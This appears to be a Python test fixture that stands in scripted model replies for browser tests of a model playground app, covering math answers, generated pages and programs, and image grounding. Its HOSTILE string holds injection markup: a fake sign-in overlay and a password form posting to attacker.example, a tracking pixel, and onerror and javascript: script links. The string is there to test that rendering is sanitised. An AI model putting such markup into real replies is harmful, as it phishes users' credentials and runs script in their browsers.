"""The real app over scripted models, for browser tests of what depends on what a model writes.

`python tests/e2e/scripted_app.py --port N` builds the app exactly as `app.py` does (same tabs,
same engine and backend), but its models are `tests.fakes` scripted ones: for the Math tab a worked
solution (a boxed answer that depends on the sample's seed; with Python, a block the tab runs
before the model reads the output and answers); for the Code tab a web page whose script probes
the page around it, Python files (one that loops forever, one that prints megabytes), and a
fill-in-the-middle body. With SCRIPTED_REMOTE set, models on a scripted OpenAI-compatible server too.
"""

from __future__ import annotations

import json
import logging
import os

from app import build_app, serve
from devtools.fake_openai import SERVED, FakeOpenAI
from devtools.launch import free_port
from devtools.tiny import build_tokenizer
from playground.access import Access
from playground.catalog import Sampling
from playground.engine import Engine
from playground.services import Services, input_limits, started_monitor
from playground.settings import Settings
from playground.tasks.visual_tokens import Grid, resized_size
from tests.fakes import scripted_registry

MODEL = "scripted-qwen2"
TOKEN_DELAY = "SCRIPTED_SECONDS_PER_TOKEN"  # set: every reply is written this slowly (tests of queues and limits)
REMOTE = "SCRIPTED_REMOTE"  # set: add models on a scripted OpenAI-compatible server (and one whose server is down)
REMOTE_REPLY = ("<think>\nThe user says hello. I will greet them back.\n</think>\n\nHello! I run on another "
                "server. " + " ".join(f"word{i}" for i in range(300)))


# A page whose script counts clicks and reports whether it could read the page around it.
PAGE = """Here is the page.
```html
<!-- index.html -->
<!doctype html>
<html><body>
<button id="b">+1</button> <span id="n">0</span>
<p id="probe">not run</p>
<script>
document.getElementById("b").onclick = () => {
  const n = document.getElementById("n"); n.textContent = Number(n.textContent) + 1; };
let probe;
try { probe = "read the app: " + parent.document.title; } catch (error) { probe = "blocked: " + error.name; }
document.getElementById("probe").textContent = probe;
</script>
</body></html>
```
Click the button to count."""
PROGRAMS = {
    "squares": "```python\n# squares.py\nfor i in range(1, 4):\n    print(i * i)\n```",
    "forever": "```python\n# forever.py\nwhile True:\n    pass\n```",
    "megabytes": "```python\n# loud.py\nprint('x' * 5_000_000)\n```",
}


# The apples in assets/examples/objects.png (1024 x 768), as drawn (see assets/examples/CREDITS.md).
APPLES = [(268, 465, 393, 596), (314, 610, 447, 750), (412, 505, 529, 628)]
OBJECTS_SIZE = (1024, 768)
DESCRIPTION = ("The image shows a chart of monthly sales. Sales rise through the spring, dip in July and August, "
               "and climb to their highest in December.")


def grounding(prompt: str) -> str:
    """The apples as each family writes them: Qwen3-VL in 0-1000 coordinates, Qwen2.5-VL in pixels of the
    resized input (the app's default of one megapixel)."""
    width, height = OBJECTS_SIZE
    if "Locate every instance" in prompt:  # Qwen3-VL's wording
        scale_x, scale_y = 1000 / width, 1000 / height
    else:
        resized = resized_size(width, height, Grid.of("qwen2.5-vl"), 1_000_000)
        scale_x, scale_y = resized[0] / width, resized[1] / height
    boxes = [{"bbox_2d": [round(x1 * scale_x), round(y1 * scale_y), round(x2 * scale_x), round(y2 * scale_y)],
              "label": "apple"} for x1, y1, x2, y2 in APPLES]
    return "```json\n" + json.dumps(boxes) + "\n```"


# Markup a reply (or a user) might write to take over the page: a full-page layer with a fake sign-in link, a
# form, a remote image that reports who read it, a script in an error handler and a javascript: link.
HOSTILE = ('<div id="overlay" style="position:fixed;inset:0;background:#d33;z-index:99999">Your session expired: '
           '<a href="https://attacker.example/login">sign in again</a></div>\n\n'
           '<form action="https://attacker.example/steal"><input id="password" name="password">'
           '<button>Sign in</button></form>\n\n'
           '![chart](https://attacker.example/pixel.png?who=reader)\n\n'
           '<img src="nowhere.png" onerror="window.__pwned = 1">\n\n'
           '<a id="js-link" href="javascript:window.__pwned = 2">details</a>')


def reply(prompt: str, sampling: Sampling) -> str:
    """What the scripted model writes, by what it is asked."""
    if "Render this" in prompt:
        return "Here it is.\n\n" + HOSTILE.replace('id="', 'id="bot-')
    if "<|vision_start|>" in prompt:
        return grounding(prompt) if "Locate every" in prompt else DESCRIPTION
    if "<|fim_middle|>" in prompt:
        return "    if n < 2:\n        return False"  # the prefix ends with the signature's newline
    if "Write HTML/CSS/JS code" in prompt:
        return PAGE
    if "Write Python code" in prompt:
        asked = prompt.rsplit("<|im_start|>user", 1)[-1]
        return next((program for word, program in PROGRAMS.items() if word in asked), PROGRAMS["squares"])
    return solution(prompt, sampling)


def solution(prompt: str, sampling: Sampling) -> str:
    """A solution as a math model writes one; two samples in three say 7, the third 8."""
    if "programs" in prompt:  # the TIR system prompt
        if "```output" in prompt:
            return "The code printed the sum, so the answer is $\\boxed{7}$."
        return "Let me add them with Python.\n```python\nprint(3 + 4)\n```"
    answer = 8 if (sampling.seed or 0) % 3 == 0 else 7
    return f"We add: $3 + 4 = {answer}$.\n\nSo the answer is $\\boxed{{{answer}}}$."


def remote_entries() -> dict[str, dict[str, object]]:
    """A scripted vLLM look-alike, started here, behind "remote-qwen3"; "remote-down" points where none runs."""
    server = FakeOpenAI(reply=REMOTE_REPLY, seconds_per_chunk=0.05).start()
    common = {"backend": "openai", "family": "qwen3", "context_length": 32768, "tasks": ["chat", "thinking"]}
    return {"remote-qwen3": {**common, "base_url": server.base_url, "model": SERVED},
            "remote-down": {**common, "base_url": f"http://127.0.0.1:{free_port()}/v1", "model": "Qwen/Qwen3-8B"}}


def main() -> None:
    settings = Settings.from_sources()
    logging.basicConfig(level=logging.INFO)
    remote = remote_entries() if os.environ.get(REMOTE) else None
    registry, loader = scripted_registry(build_tokenizer("qwen3"), remote)
    for key in registry.catalog.models:
        loader.decoder(key).respond = reply
        loader.decoder(key).seconds_per_token = float(os.environ.get(TOKEN_DELAY, "0"))
    engine = Engine(registry, input_limits(settings), started_monitor(settings, "cpu"))
    services = Services(registry.catalog, registry, engine, settings, concurrency=settings.max_concurrent,
                        access=Access(settings.admin_token, settings.local))
    serve(build_app(services), services)


if __name__ == "__main__":
    main()
